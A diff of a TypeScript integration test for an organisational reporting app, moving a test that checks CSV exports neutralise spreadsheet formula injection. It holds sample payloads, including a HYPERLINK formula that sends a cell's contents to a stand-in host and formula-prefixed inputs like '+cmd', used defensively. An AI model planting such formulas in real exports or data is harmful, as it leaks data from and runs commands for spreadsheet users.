@@ -86,54 +86,6 @@ afterAll(async () => {
   await api?.close();
 });
 
-describe('exports a spreadsheet opens', () => {
-  it('escapes every text a spreadsheet would run, in the aggregate (and its total row) and the unit export', async () => {
-    const formulas = ['=HYPERLINK("http://x.example/?"&B5,"Xem")', '=1+1', '+cmd', '-2+3', '@SUM(1)'];
-    const directiveId = await issue('Báo cáo có nội dung tự do', {
-      schedule: { kind: 'interval', everySeconds: 600, count: 1 },
-      form: {
-        fields: [{ key: 'note', label: 'Ghi chú', type: 'text', required: true, aggregate: 'collect' }],
-      },
-    });
-    const g1 = (await member(id.G1, 'clerk')).token;
-    await post(`/directives/${directiveId}/reports`, g1, {
-      unitId: id.G1,
-      cycle: 0,
-      values: { note: formulas[0] },
-    }).expect(201);
-    const g2 = (await member(id.G2, 'clerk')).token;
-    await post(`/directives/${directiveId}/reports`, g2, {
-      unitId: id.G2,
-      cycle: 0,
-      values: { note: formulas[1] },
-    }).expect(201);
-    const csv = await get(
-      `/directives/${directiveId}/aggregate/export?unitId=${id.D1}&cycle=0&format=csv`,
-      clerk,
-    ).expect(200);
-    const cells: string[][] = parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true });
-    const notes = cells.slice(1).map((row) => row[3]);
-    expect(notes).toEqual(expect.arrayContaining([`'${formulas[0]}`, `'${formulas[1]}`]));
-    const total = cells.find((row) => row[0] === 'TỔNG HỢP')!;
-    expect(total[3].startsWith("'=")).toBe(true); // the collected texts, led by a formula
-    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-
-    // units named like formulas come out inert in the unit export
-    for (const [i, name] of formulas.entries()) {
-      await http()
-        .post('/units')
-        .set(auth(org.admin))
-        .set('Idempotency-Key', newKey())
-        .send({ code: `${org.prefix}-F${i}`, name, kind: 'grassroots_union', parentId: id.D2 })
-        .expect(201);
-    }
-    const units = await get(`/units/export?format=csv&under=${id.D2}`, org.admin).expect(200);
-    const rows: { name: string }[] = parseCsv(units.text, { columns: true });
-    for (const name of formulas) expect(rows.map((r) => r.name)).toContain(`'${name}`);
-    for (const r of rows) expect(r.name).not.toMatch(/^[=+\-@\t\r]/);
-  });
-});
-
 describe('secretariat dashboards', () => {
   it('lists registers, rolls up the tree, ranks overdue units and exports the aggregate', async () => {
     const older = await issue('Kế hoạch tuyên truyền Giải Búa liềm vàng lần thứ V');
@@ -246,5 +198,54 @@ describe('secretariat dashboards', () => {
     const sheet = book.worksheets[0];
     expect(sheet.getRow(4).getCell(1).value).toBe('Mã đơn vị');
     expect(sheet.getRow(sheet.rowCount).getCell(1).value).toBe('TỔNG HỢP');
+  });
+});
+
+// Last: it issues a directive and adds units under P, which the dashboards' counts above must not see.
+describe('exports a spreadsheet opens', () => {
+  it('escapes every text a spreadsheet would run, in the aggregate (and its total row) and the unit export', async () => {
+    const formulas = ['=HYPERLINK("http://x.example/?"&B5,"Xem")', '=1+1', '+cmd', '-2+3', '@SUM(1)'];
+    const directiveId = await issue('Báo cáo có nội dung tự do', {
+      schedule: { kind: 'interval', everySeconds: 600, count: 1 },
+      form: {
+        fields: [{ key: 'note', label: 'Ghi chú', type: 'text', required: true, aggregate: 'collect' }],
+      },
+    });
+    const g1 = (await member(id.G1, 'clerk')).token;
+    await post(`/directives/${directiveId}/reports`, g1, {
+      unitId: id.G1,
+      cycle: 0,
+      values: { note: formulas[0] },
+    }).expect(201);
+    const g2 = (await member(id.G2, 'clerk')).token;
+    await post(`/directives/${directiveId}/reports`, g2, {
+      unitId: id.G2,
+      cycle: 0,
+      values: { note: formulas[1] },
+    }).expect(201);
+    const csv = await get(
+      `/directives/${directiveId}/aggregate/export?unitId=${id.D1}&cycle=0&format=csv`,
+      clerk,
+    ).expect(200);
+    const cells: string[][] = parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true });
+    const notes = cells.slice(1).map((row) => row[3]);
+    expect(notes).toEqual(expect.arrayContaining([`'${formulas[0]}`, `'${formulas[1]}`]));
+    const total = cells.find((row) => row[0] === 'TỔNG HỢP')!;
+    expect(total[3].startsWith("'=")).toBe(true); // the collected texts, led by a formula
+    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    // units named like formulas come out inert in the unit export
+    for (const [i, name] of formulas.entries()) {
+      await http()
+        .post('/units')
+        .set(auth(org.admin))
+        .set('Idempotency-Key', newKey())
+        .send({ code: `${org.prefix}-F${i}`, name, kind: 'grassroots_union', parentId: id.D2 })
+        .expect(201);
+    }
+    const units = await get(`/units/export?format=csv&under=${id.D2}`, org.admin).expect(200);
+    const rows: { name: string }[] = parseCsv(units.text, { columns: true });
+    for (const name of formulas) expect(rows.map((r) => r.name)).toContain(`'${name}`);
+    for (const r of rows) expect(r.name).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
